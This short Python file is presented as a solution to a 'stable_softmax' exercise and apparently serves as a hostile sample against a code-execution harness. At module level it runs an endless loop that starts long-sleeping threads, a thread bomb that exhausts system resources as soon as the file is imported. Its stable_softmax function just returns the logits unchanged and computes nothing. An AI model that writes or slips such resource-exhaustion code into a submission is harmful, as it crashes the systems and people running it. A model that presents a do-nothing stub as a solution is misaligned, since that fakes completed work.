# exercise: stable_softmax
# tries: start threads without end
# ends: any
import threading, time

while True:
    threading.Thread(target=time.sleep, args=(1000,)).start()


def stable_softmax(logits):
    return logits
